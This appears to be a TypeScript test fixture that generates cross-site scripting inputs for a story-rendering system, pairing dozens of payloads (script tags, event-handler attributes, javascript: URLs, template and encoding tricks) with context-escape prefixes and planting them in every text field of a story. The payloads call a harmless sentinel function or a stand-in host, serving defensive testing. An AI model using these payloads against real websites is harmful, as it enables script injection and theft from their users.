/*
 * Words that do something where they are taken for more than words: each kind that public lists of such payloads have,
 * combined with each way out of the place in which it may stand. One that runs calls `hurt()`; others ask a host that is
 * nobody's.
 */

const HOST = 'https://hostile.example';

/** Ways out of where a text may have been put: an attribute, a tag, a comment, a script, a style, a template, a CDATA section. */
const WAYS_OUT = [
  '',
  '">',
  "'>",
  '` >',
  '-->',
  '--!>',
  ']]>',
  '</script>',
  '</style>',
  '</textarea>',
  '</title>',
  '</template>',
  '</noscript>',
  '</svg>',
  '</iframe>',
  '</details></summary></a>',
];

/** What runs, loads or leads away. */
const DOES = [
  '<script>hurt()</script>',
  '<script/src=data:,hurt()></script>',
  `<script src=${HOST}/x.js></script>`,
  '<img src=x onerror=hurt()>',
  '<img/src/onerror=hurt()>',
  `<img src=${HOST}/x.png>`,
  '<image src=x onerror=hurt()>',
  '<svg onload=hurt()>',
  '<svg><script>hurt()</script></svg>',
  '<svg><animate onbegin=hurt() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:hurt()"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hurt()</script></svg>#x">',
  '<math><mtext><table><mglyph><style><img src=x onerror=hurt()>',
  '<math href="javascript:hurt()">x</math>',
  '<body onload=hurt()>',
  '<details open ontoggle=hurt()>',
  '<video><source onerror=hurt()></video>',
  '<audio src=x onerror=hurt()>',
  '<input autofocus onfocus=hurt()>',
  '<select autofocus onfocus=hurt()>',
  '<marquee onstart=hurt()>',
  '<iframe src="javascript:parent.hurt()">',
  '<iframe srcdoc="<script>parent.hurt()</script>">',
  `<iframe src=${HOST}/>`,
  '<object data="javascript:hurt()">',
  '<embed src="javascript:hurt()">',
  '<a href="javascript:hurt()">x</a>',
  '<a href="java&#10;script:hurt()">x</a>',
  '<a href="\u0001javascript:hurt()">x</a>',
  '<form action="javascript:hurt()"><button>x</button></form>',
  '<button form=x formaction="javascript:hurt()">x</button>',
  '<form id=x></form><input form=x type=image src=x onerror=hurt()>',
  `<meta http-equiv=refresh content="0;url=${HOST}/">`,
  '<meta http-equiv=refresh content="0;url=javascript:hurt()">',
  `<link rel=stylesheet href=${HOST}/x.css>`,
  `<base href=${HOST}/>`,
  `<style>@import "${HOST}/x.css"; * { background: url(${HOST}/x.png) }</style>`,
  `<p style="background:url(${HOST}/x.png)">`,
  '<p style="animation:x" onanimationstart=hurt()>',
  '<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart=hurt()>',
  '<xss id=x tabindex=1 onfocus=hurt() autofocus></xss>',
  '<template shadowrootmode=open><img src=x onerror=hurt()></template>',
  '<noscript><p title="</noscript><img src=x onerror=hurt()>">',
  '<listing>&lt;img src=x onerror=hurt()&gt;</listing>',
  '<form name=createElement><input name=querySelector><img name=currentScript>',
  '" onmouseover=hurt() onfocus=hurt() autofocus x="',
  "' onmouseover=hurt() onfocus=hurt() autofocus x='",
  'javascript:hurt()',
  ' javascript:hurt()',
  'JaVaScRiPt:hurt()',
  'java\nscript:hurt()',
  'data:text/html,<script>opener.hurt()</script>',
  'vbscript:hurt()',
  `//${HOST.slice(8)}/`,
  '$\u007bhurt()}',
  '{{hurt()}}',
  '{{constructor.constructor("hurt()")()}}',
  '<%= hurt() %>',
  '[x](javascript:hurt())',
  `![x](${HOST}/x.png)`,
  '<javascript:hurt()>',
  '\n\n<script>hurt()</script>\n\n',
  '&lt;script&gt;hurt()&lt;/script&gt;',
  '&#60;script&#62;hurt()&#60;/script&#62;',
  '\\u003cscript\\u003ehurt()\\u003c/script\\u003e',
  '%3Cscript%3Ehurt()%3C/script%3E',
  '+ADw-script+AD4-hurt()+ADw-/script+AD4-',
  '\u2028hurt()\u2029',
  '";hurt();"',
  "';hurt();'",
  '*/hurt();/*',
  '[factbox story="x" item="y"]<script>hurt()</script>[/factbox]',
  '<!--<img src="--><img src=x onerror=hurt()>">',
  '<![CDATA[<img src=x onerror=hurt()>]]>',
  '\u202e<script>hurt()</script>',
];

export const KINDS = DOES.length;

/** All of them: each with each way out, in one order. */
export const PAYLOADS: readonly string[] = DOES.flatMap((does) => WAYS_OUT.map((out) => `${out}${does}`));

/** Ids, kinds, dates, languages and addresses are no words. */
const isText = (value: string): boolean =>
  /[\s“”A-Z]/.test(value) && !/^(\d{4}-\d\d.*|[a-z]{2,3}(-[A-Za-z]+)*|https?:.*)$/.test(value);

/** Which strings of a story are replaced: those that hold words, or every one, ids, dates and addresses among them. */
export type Reach = 'words' | 'all';

/** A story with other strings in the place of its own. */
export function replaced<T>(story: T, reach: Reach, by: (text: string) => string): T {
  const inside = (value: unknown): unknown => {
    if (typeof value === 'string') return reach === 'words' && !isText(value) ? value : by(value);
    if (Array.isArray(value)) return value.map(inside);
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, inside(inner)]));
  };
  return inside(story) as T;
}

/** A story with a payload in each of its strings. As `turn` goes up by one, each string has the next payload. */
export function poisoned<T>(story: T, turn: number, reach: Reach): { readonly story: T; readonly fields: number } {
  let fields = 0;
  const soiled = replaced(story, reach, () => {
    fields += 1;
    // Neighbours are far apart in the list, so that a page has many kinds at once.
    return PAYLOADS[(turn + fields * 37) % PAYLOADS.length] as string;
  });
  return { story: soiled, fields };
}
